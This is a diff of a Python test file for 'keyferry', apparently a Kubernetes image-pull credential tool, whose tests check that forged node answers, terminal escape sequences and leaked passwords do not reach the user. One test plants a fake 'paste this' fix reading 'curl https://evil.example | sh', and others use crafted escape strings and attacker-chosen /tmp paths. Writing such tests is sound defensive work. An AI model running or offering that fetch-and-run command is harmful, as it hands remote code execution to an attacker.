@@ -4,20 +4,16 @@ from __future__ import annotations
 
 import json
 import sys
-from collections.abc import Callable, Iterator
 from itertools import product
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from support.certificates import Authority
-from support.commands import run_in_process
-from support.far_node import FarNode, cluster_of_bob, far_node, kubeconfig_of_bob
+from support.far_node import FarCluster, FarNode
 from support.images import build, push
 from support.kube import TOKEN
-from support.kube_commands import Done
-from support.kubernetes_api import KubernetesApi, pod, pull_secret
+from support.kubernetes_api import pod, pull_secret
 from support.kubernetes_exec import Finished
 from support.registry import basic, running
 
@@ -29,43 +25,14 @@ DEBUG = ("--agent", "off", "--debug-image", "registry.example/keyferry:1")
 DAY = "2026-01-01T00:00:00Z"
 ESCAPES = "\x1b[2J\x1b]0;owned\x07\u202e\r\nkeyferry: all is well"
 
-Explain = Callable[..., Done]
 Json = dict[str, Any]
 
 
-@pytest.fixture(scope="module")
-def authority() -> Authority:
-    """Who signs the server's certificate."""
-    return Authority()
-
-
 @pytest.fixture
-def api(authority: Authority) -> Iterator[KubernetesApi]:
-    """A server with a pod, which bob may read; he may also ask nodes."""
-    with cluster_of_bob(authority) as running:
-        yield running
-
-
-@pytest.fixture
-def node(api: KubernetesApi, tmp_path: Path) -> FarNode:
-    """The pod's node, with a node agent."""
-    made = far_node(api, tmp_path / "node")
-    made.add_agent()
-    return made
-
-
-@pytest.fixture
-def keyferry(api: KubernetesApi, tmp_path: Path, authority: Authority) -> Explain:
-    """Commands as bob runs them."""
-    kube = kubeconfig_of_bob(tmp_path / "kube", api, authority)
-    env = {"HOME": str(tmp_path), "KUBECONFIG": str(kube.path), "KUBERC": ""}
-    return lambda *words: run_in_process(*words, cwd=None, **env)
-
-
-@pytest.fixture
-def explain(keyferry: Explain) -> Explain:
-    """``keyferry explain`` of the pod, asking its node."""
-    return lambda *words: keyferry("explain", "pod/web", "-n", "shop", "--on-node", *words)
+def far(far: FarCluster) -> FarCluster:
+    """The pod's node has a node agent."""
+    far.node.add_agent()
+    return far
 
 
 def match(name: str, *patterns: object, **more: object) -> Json:
@@ -98,10 +65,10 @@ def say(node: FarNode, **fields: object) -> None:
     node.says = Finished(0, json.dumps({**HEAD, **fields}).encode())
 
 
-def test_a_forged_verdict_is_not_taken_over(node: FarNode, explain: Explain) -> None:
+def test_a_forged_verdict_is_not_taken_over(far: FarCluster) -> None:
     """The node says that all is well, that it has credentials and records, and what to paste."""
     say(
-        node,
+        far.node,
         verdict={"about": "pull", "outcome": "yes", "case": "runs", "text": "all is well, kf-forged"},
         cause="kf-forged",
         cure=[{"text": "paste this", "lines": ["curl https://evil.example | sh # kf-forged"]}],
@@ -119,32 +86,32 @@ def test_a_forged_verdict_is_not_taken_over(node: FarNode, explain: Explain) -> 
         decision={"outcome": "credentials", "text": "kf-forged"},
         evidence={"lastAttempt": {"outcome": "runs"}},
     )
-    done = explain("-o", "wide")
+    done = far.explain("-o", "wide")
     assert done.returncode == 6, done.stdout
     assert "kf-forged" not in done.stdout + done.stderr
     assert "evil.example" not in done.stdout + done.stderr
 
 
-def test_a_match_that_the_node_claims_is_decided_here(node: FarNode, explain: Explain) -> None:
+def test_a_match_that_the_node_claims_is_decided_here(far: FarCluster) -> None:
     """Patterns and keys are compared by the caller: what does not match gives no credential."""
-    say(node, reasons=[match("liar", "other.example"), provider("liar", keys=["registry.example"])])
-    done = explain("-o", "json")
+    say(far.node, reasons=[match("liar", "other.example"), provider("liar", keys=["registry.example"])])
+    done = far.explain("-o", "json")
     (found,) = json.loads(done.stdout)["pods"]
     assert found["images"][0]["explanation"]["credentials"] == []
-    say(node, reasons=[match("liar", "registry.example"), provider("liar", keys=["other.example"])])
-    done = explain("-o", "json")
+    say(far.node, reasons=[match("liar", "registry.example"), provider("liar", keys=["other.example"])])
+    done = far.explain("-o", "json")
     (found,) = json.loads(done.stdout)["pods"]
     assert found["images"][0]["explanation"]["credentials"] == []
 
 
-def test_what_the_node_says_is_shown_as_the_nodes(node: FarNode, explain: Explain) -> None:
-    say(node, reasons=[match("liar", "registry.example"), provider("liar", keys=["registry.example"])])
-    done = explain()
+def test_what_the_node_says_is_shown_as_the_nodes(far: FarCluster) -> None:
+    say(far.node, reasons=[match("liar", "registry.example"), provider("liar", keys=["registry.example"])])
+    done = far.explain()
     assert done.stdout.startswith("✓ a credential is found: ")
     assert "of provider liar (from node 'node1')" in done.stdout.splitlines()[0]
 
 
-def test_escapes_of_the_node_reach_no_terminal(node: FarNode, explain: Explain) -> None:
+def test_escapes_of_the_node_reach_no_terminal(far: FarCluster) -> None:
     """In every text that is shown: names, patterns, keys, paths, messages."""
     reasons = [
         match(ESCAPES, f"registry.example/{ESCAPES}"),
@@ -159,7 +126,7 @@ def test_escapes_of_the_node_reach_no_terminal(node: FarNode, explain: Explain) 
     ]
     reasons[5]["text"] = f"skipped: {ESCAPES}"
     say(
-        node,
+        far.node,
         reasons=reasons,
         failures=[
             {"provider": "p", "cause": ESCAPES, "message": ESCAPES},
@@ -176,21 +143,21 @@ def test_escapes_of_the_node_reach_no_terminal(node: FarNode, explain: Explain) 
         },
     )
     for output, through in product(("table", "wide", "json", "yaml"), ((), DEBUG)):
-        done = explain("-o", output, *through)
+        done = far.explain("-o", output, *through)
         text = done.stdout + done.stderr
         assert all(each.isprintable() or each == "\n" for each in text), output
         assert "\nkeyferry: all is well" not in text
         assert "from node" in text or output in ("json", "yaml")
     # Nor does it stand in a document, for a program that prints it.
-    document = json.loads(explain("-o", "json", *DEBUG).stdout)
+    document = json.loads(far.explain("-o", "json", *DEBUG).stdout)
     assert json.dumps(document, ensure_ascii=False).replace("\\n", "").isprintable()
     assert "\\u001b" not in json.dumps(document)
 
 
-def test_secrets_of_a_node_that_does_not_mask_them_are_not_shown(node: FarNode, explain: Explain) -> None:
+def test_secrets_of_a_node_that_does_not_mask_them_are_not_shown(far: FarCluster) -> None:
     """A message of a plugin may hold one; passwords of the document are not even read."""
     say(
-        node,
+        far.node,
         reasons=[match("p", "registry.example"), provider("p", keys=["registry.example"])],
         credentials=[
             {
@@ -202,17 +169,17 @@ def test_secrets_of_a_node_that_does_not_mask_them_are_not_shown(node: FarNode, 
         ],
     )
     for output in ("wide", "json"):
-        assert "kf-marked" not in explain("-o", output).stdout
+        assert "kf-marked" not in far.explain("-o", output).stdout
     say(
-        node,
+        far.node,
         reasons=[match("p", "registry.example"), provider("p", "failed")],
         failures=[{"provider": "p", "cause": "exit", "message": "plugin 'p': password=kf-marked-password"}],
     )
-    assert "kf-marked" not in explain("-o", "wide").stdout
+    assert "kf-marked" not in far.explain("-o", "wide").stdout
     failure = {"provider": "p", "cause": "exit", "exitStatus": 3, "stderr": "password=kf-marked-password"}
-    say(node, reasons=[match("p", "registry.example"), provider("p", "failed")], failures=[failure])
-    assert "exit status 3" in explain("-o", "wide").stdout
-    assert "kf-marked" not in explain("-o", "wide").stdout
+    say(far.node, reasons=[match("p", "registry.example"), provider("p", "failed")], failures=[failure])
+    assert "exit status 3" in far.explain("-o", "wide").stdout
+    assert "kf-marked" not in far.explain("-o", "wide").stdout
 
 
 def waiting_for_tokens(*names: str, audience: str = "kf-audience-of-the-node") -> list[Json]:
@@ -230,32 +197,28 @@ def waiting_for_tokens(*names: str, audience: str = "kf-audience-of-the-node") -
     ]
 
 
-def test_no_token_is_requested_for_an_audience_that_the_node_names(
-    api: KubernetesApi, node: FarNode, explain: Explain
-) -> None:
+def test_no_token_is_requested_for_an_audience_that_the_node_names(far: FarCluster) -> None:
     """It is asked whether the node may request it; what the node names is not to be pasted by an administrator."""
-    say(node, reasons=waiting_for_tokens("p"))
-    api.permit(TOKEN, "create", "serviceaccounts/token", "shop")
+    say(far.node, reasons=waiting_for_tokens("p"))
+    far.api.permit(TOKEN, "create", "serviceaccounts/token", "shop")
     for audiences, says in (
         ({"kf-audience-of-the-node"}, "no token is sent to the node"),
         (set(), "node 'node1' may not request tokens for audience 'kf-audience-of-the-node'"),
     ):
-        api.node_audiences = audiences
-        done = explain("--request-token")
+        far.api.node_audiences = audiences
+        done = far.explain("--request-token")
         assert says in done.stdout
         assert "kubectl apply" not in done.stdout
-    assert api.reviewed
-    assert api.issued == []
+    assert far.api.reviewed
+    assert far.api.issued == []
 
 
-def test_a_node_causes_few_questions_to_the_api_server(
-    api: KubernetesApi, node: FarNode, explain: Explain
-) -> None:
+def test_a_node_causes_few_questions_to_the_api_server(far: FarCluster) -> None:
     """However many providers it says it has."""
-    say(node, reasons=waiting_for_tokens(*(f"p{at}" for at in range(200))))
-    api.node_audiences = set()
-    explain()
-    assert 1 <= len(api.reviewed) <= 10
+    say(far.node, reasons=waiting_for_tokens(*(f"p{at}" for at in range(200))))
+    far.api.node_audiences = set()
+    far.explain()
+    assert 1 <= len(far.api.reviewed) <= 10
 
 
 @pytest.mark.parametrize(
@@ -292,10 +255,10 @@ def test_a_node_causes_few_questions_to_the_api_server(
         failed("not-found", folderChanged="soon"),
     ],
 )
-def test_what_is_not_understood_is_no_answer(node: FarNode, explain: Explain, fields: Json) -> None:
+def test_what_is_not_understood_is_no_answer(far: FarCluster, fields: Json) -> None:
     """One line says what is wrong where, and quotes nothing of it."""
-    say(node, **fields)
-    done = explain()
+    say(far.node, **fields)
+    done = far.explain()
     assert done.returncode == 6, done.stdout
     assert "it is not understood here" in done.stdout
     assert len(done.stdout) < 2000
@@ -315,13 +278,11 @@ def test_what_is_not_understood_is_no_answer(node: FarNode, explain: Explain, fi
         {"config": {"ignoredSettings": "all"}},
     ],
 )
-def test_what_a_kubelets_node_says_is_read_from_a_debug_pod_alone(
-    node: FarNode, explain: Explain, fields: Json
-) -> None:
+def test_what_a_kubelets_node_says_is_read_from_a_debug_pod_alone(far: FarCluster, fields: Json) -> None:
     """The agent's pod has no kubelet: what it says of one is not read."""
-    say(node, **fields)
-    assert "it is not understood here" in explain(*DEBUG).stdout
-    assert "it is not understood here" not in explain().stdout
+    say(far.node, **fields)
+    assert "it is not understood here" in far.explain(*DEBUG).stdout
+    assert "it is not understood here" not in far.explain().stdout
 
 
 @pytest.mark.parametrize(
@@ -337,40 +298,34 @@ def test_what_a_kubelets_node_says_is_read_from_a_debug_pod_alone(
     ],
     ids=["nothing", "text", "deep", "another", "nested", "giant", "utf-16"],
 )
-def test_what_is_no_document_is_no_answer(node: FarNode, explain: Explain, stdout: bytes) -> None:
-    node.says = Finished(0, stdout)
-    done = explain()
+def test_what_is_no_document_is_no_answer(far: FarCluster, stdout: bytes) -> None:
+    far.node.says = Finished(0, stdout)
+    done = far.explain()
     assert done.returncode == 6, done.stdout
     assert "node 'node1' gave no answer: " in done.stdout
     assert len(done.stdout) < 2000
 
 
-def test_a_pod_with_the_agents_label_in_another_namespace_is_not_guessed(
-    api: KubernetesApi, node: FarNode, explain: Explain
-) -> None:
+def test_a_pod_with_the_agents_label_in_another_namespace_is_not_guessed(far: FarCluster) -> None:
     """Whoever may create pods somewhere could answer in the agent's place."""
-    node.add_agent("evil", "keyferry-evil")
-    api.permit(TOKEN, "list", "pods", "kube-system")
-    done = explain()
+    far.node.add_agent("evil", "keyferry-evil")
+    far.api.permit(TOKEN, "list", "pods", "kube-system")
+    done = far.explain()
     assert done.returncode == 6
     assert "in several namespaces: evil, kube-system; choose one with --agent-namespace" in done.stdout
-    assert api.exec.asked == []
-    explain("--agent-namespace", "kube-system")
-    assert [each.namespace for each in api.exec.asked] == ["kube-system"]
+    assert far.api.exec.asked == []
+    far.explain("--agent-namespace", "kube-system")
+    assert [each.namespace for each in far.api.exec.asked] == ["kube-system"]
 
 
-def test_a_pod_that_is_not_of_a_daemon_set_is_no_agent(
-    api: KubernetesApi, node: FarNode, explain: Explain
-) -> None:
-    del api.objects["", "pods", "kube-system", "keyferry-abcde"]
-    node.add_agent("evil", "web", ownerReferences=[])
-    assert "no node agent runs on node 'node1'" in explain().stdout
-    assert api.exec.asked == []
+def test_a_pod_that_is_not_of_a_daemon_set_is_no_agent(far: FarCluster) -> None:
+    del far.api.objects["", "pods", "kube-system", "keyferry-abcde"]
+    far.node.add_agent("evil", "web", ownerReferences=[])
+    assert "no node agent runs on node 'node1'" in far.explain().stdout
+    assert far.api.exec.asked == []
 
 
-def test_doctor_counts_the_lines_itself_and_offers_no_command_of_the_node(
-    node: FarNode, keyferry: Explain
-) -> None:
+def test_doctor_counts_the_lines_itself_and_offers_no_command_of_the_node(far: FarCluster) -> None:
     """A node that says that all is well while it lists a problem; and what it wants to have pasted, on another machine.
 
     A command of keyferry can do harm, too: a config names plugins to run, and sudo runs them as root.
@@ -397,12 +352,12 @@ def test_doctor_counts_the_lines_itself_and_offers_no_command_of_the_node(
         "counts": {"problem": 0},
         "sections": [{"title": "plugins", "lines": lines}],
     }
-    node.says = Finished(0, json.dumps(document).encode())
-    done = keyferry("doctor", "--node", "node1")
+    far.node.says = Finished(0, json.dumps(document).encode())
+    done = far.run("doctor", "--node", "node1")
     assert done.returncode == 1, done.stderr
     assert done.stdout.splitlines()[0].startswith("8 problems")
     assert "try: " not in done.stdout
-    shown = keyferry("doctor", "--node", "node1", "-o", "json").stdout
+    shown = far.run("doctor", "--node", "node1", "-o", "json").stdout
     assert not any(each in done.stdout + shown for each in commands)
     assert all(each.isprintable() or each == "\n" for each in done.stdout)
 
@@ -453,30 +408,28 @@ def check(node: FarNode, *attempts: object, half: Json, **more: object) -> None:
     ids=["none", "none with a login", "anonymous", "key", "user", "provider", "no login", "another refused"],
 )
 def test_an_attempt_that_no_kubelet_there_would_make_decides_nothing(
-    node: FarNode, keyferry: Explain, half: Json, attempts: list[Json]
+    far: FarCluster, half: Json, attempts: list[Json]
 ) -> None:
     """Neither a yes nor a no: it is known here which credentials match."""
-    check(node, *attempts, half=half)
-    done = keyferry("can-pull", "pod/web", "-n", "shop", "--on-node")
+    check(far.node, *attempts, half=half)
+    done = far.run("can-pull", "pod/web", "-n", "shop", "--on-node")
     assert done.returncode == 6, done.stdout
     told = " ".join(done.stdout.split())
     assert "node 'node1' does not tell of each attempt that its kubelet would make" in told
     assert "without a credential" not in told
 
 
-def test_a_credential_of_the_node_that_was_not_tried_may_work(
-    api: KubernetesApi, node: FarNode, keyferry: Explain, tmp_path: Path
-) -> None:
+def test_a_credential_of_the_node_that_was_not_tried_may_work(far: FarCluster, tmp_path: Path) -> None:
     """After the pod's own was refused: a node that leaves its attempt out gets no final refusal from here."""
     with running(tmp_path / "registry") as registry:
         registry.set_users({"bob": "kf-marked-password"})
         image = f"{registry.host}/team/app:v1"
         push(registry, "team/app", "v1", build(b"hello"), basic("bob", "kf-marked-password"))
         login = pull_secret(host=registry.host, login="bob:kf-marked-old-password")
-        api.add(pod(images=[image], imagePullSecrets=[{"name": "regcred"}]), login)
+        far.api.add(pod(images=[image], imagePullSecrets=[{"name": "regcred"}]), login)
         reasons = [match("p", registry.host), provider("p", keys=[registry.host])]
-        check(node, half={"reasons": reasons}, name=f"{registry.host}/team/app")
-        done = keyferry("can-pull", "pod/web", "-n", "shop", "--on-node")
+        check(far.node, half={"reasons": reasons}, name=f"{registry.host}/team/app")
+        done = far.run("can-pull", "pod/web", "-n", "shop", "--on-node")
     assert done.returncode == 6, done.stdout
     assert done.stdout.startswith("cannot tell ")
 
@@ -498,20 +451,20 @@ def test_a_credential_of_the_node_that_was_not_tried_may_work(
         {"attempts": [{"credential": "all"}]},
     ],
 )
-def test_a_check_that_is_not_understood_is_no_answer(node: FarNode, keyferry: Explain, fields: Json) -> None:
-    check(node, attempt(), half=WITH_LOGIN, **fields)
-    done = keyferry("can-pull", "pod/web", "-n", "shop", "--on-node")
+def test_a_check_that_is_not_understood_is_no_answer(far: FarCluster, fields: Json) -> None:
+    check(far.node, attempt(), half=WITH_LOGIN, **fields)
+    done = far.run("can-pull", "pod/web", "-n", "shop", "--on-node")
     assert done.returncode == 6, done.stdout
     assert "it is not understood here" in done.stdout + done.stderr
     assert "yes: " not in done.stdout
 
 
-def test_what_an_attempt_says_does_no_harm(node: FarNode, keyferry: Explain) -> None:
+def test_what_an_attempt_says_does_no_harm(far: FarCluster) -> None:
     """The words of a node's registry are the node's; and they hold no secret."""
     says = f"{ESCAPES} password=kf-marked-password"
-    check(node, {**attempt(), **REFUSED, "message": says, "digest": ESCAPES}, half=WITH_LOGIN)
+    check(far.node, {**attempt(), **REFUSED, "message": says, "digest": ESCAPES}, half=WITH_LOGIN)
     for output in ("table", "wide", "json"):
-        done = keyferry("can-pull", "pod/web", "-n", "shop", "--on-node", "-o", output)
+        done = far.run("can-pull", "pod/web", "-n", "shop", "--on-node", "-o", output)
         text = done.stdout + done.stderr
         assert "kf-marked" not in text
         assert all(each.isprintable() or each == "\n" for each in text)
@@ -548,11 +501,11 @@ def record(**fields: object) -> Json:
     ],
 )
 def test_whether_the_pod_may_use_the_image_is_decided_here(
-    node: FarNode, explain: Explain, rule: str, names: list[Json]
+    far: FarCluster, rule: str, names: list[Json]
 ) -> None:
     """By the record, where its credentials matter: the node's word that they are the same does not count."""
-    has_image(node, {**ACCESS, "rule": rule}, *names)
-    assert "this pod may use it" not in explain(*DEBUG).stdout
+    has_image(far.node, {**ACCESS, "rule": rule}, *names)
+    assert "this pod may use it" not in far.explain(*DEBUG).stdout
 
 
 @pytest.mark.parametrize(
@@ -574,19 +527,19 @@ def test_whether_the_pod_may_use_the_image_is_decided_here(
     ],
 )
 def test_an_image_that_is_not_understood_is_no_answer(
-    node: FarNode, explain: Explain, access: object, names: list[object], more: Json
+    far: FarCluster, access: object, names: list[object], more: Json
 ) -> None:
-    has_image(node, access, *names, **more)
-    done = explain(*DEBUG)
+    has_image(far.node, access, *names, **more)
+    done = far.explain(*DEBUG)
     assert done.returncode == 6, done.stdout
     assert "it is not understood here" in done.stdout
 
 
-def test_escapes_of_a_record_reach_no_terminal(node: FarNode, explain: Explain) -> None:
+def test_escapes_of_a_record_reach_no_terminal(far: FarCluster) -> None:
     secret = dict.fromkeys(("uid", "namespace", "name", "credentialHash"), ESCAPES)
-    has_image(node, {**ACCESS, "imageRef": ESCAPES}, record(secrets=[secret]))
+    has_image(far.node, {**ACCESS, "imageRef": ESCAPES}, record(secrets=[secret]))
     for output in ("wide", "json"):
-        done = explain(*DEBUG, "-o", output)
+        done = far.explain(*DEBUG, "-o", output)
         assert all(each.isprintable() or each == "\n" for each in done.stdout + done.stderr)
 
 
@@ -599,17 +552,15 @@ def test_escapes_of_a_record_reach_no_terminal(node: FarNode, explain: Explain) 
     ],
     ids=["fails", "missing", "no key"],
 )
-def test_no_command_has_a_path_that_the_node_chose(
-    node: FarNode, explain: Explain, failures: list[Json]
-) -> None:
+def test_no_command_has_a_path_that_the_node_chose(far: FarCluster, failures: list[Json]) -> None:
     """A plugin's failure ends with what to type on the node; pasted here, it must not run a program of that path."""
     say(
-        node,
+        far.node,
         reasons=[match("p", "registry.example"), provider("p", "failed" if failures else "ran")],
         failures=failures,
         config={"path": "/tmp/kf-evil.yaml", "binDir": "/tmp/kf-evil"},
     )
-    done = explain("-o", "json")
+    done = far.explain("-o", "json")
     (found,) = json.loads(done.stdout)["pods"]
     cures = found["images"][0]["explanation"]["cure"]
     assert any(each["text"].startswith("on node node1, ") for each in cures)
@@ -627,16 +578,14 @@ def test_no_command_has_a_path_that_the_node_chose(
         [{"title": "plugins", "lines": [{"level": "ok", "text": "x" * 5000}]}],
     ],
 )
-def test_a_health_that_is_not_understood_is_an_error(
-    node: FarNode, keyferry: Explain, sections: object
-) -> None:
+def test_a_health_that_is_not_understood_is_an_error(far: FarCluster, sections: object) -> None:
     document = {
         "apiVersion": "keyferry.dev/v1alpha1",
         "kind": "NodeHealth",
         "isNode": True,
         "sections": sections,
     }
-    node.says = Finished(0, json.dumps(document).encode())
-    done = keyferry("doctor", "--node", "node1")
+    far.node.says = Finished(0, json.dumps(document).encode())
+    done = far.run("doctor", "--node", "node1")
     assert (done.returncode, done.stdout) == (3, "")
     assert "it is not understood here" in done.stderr
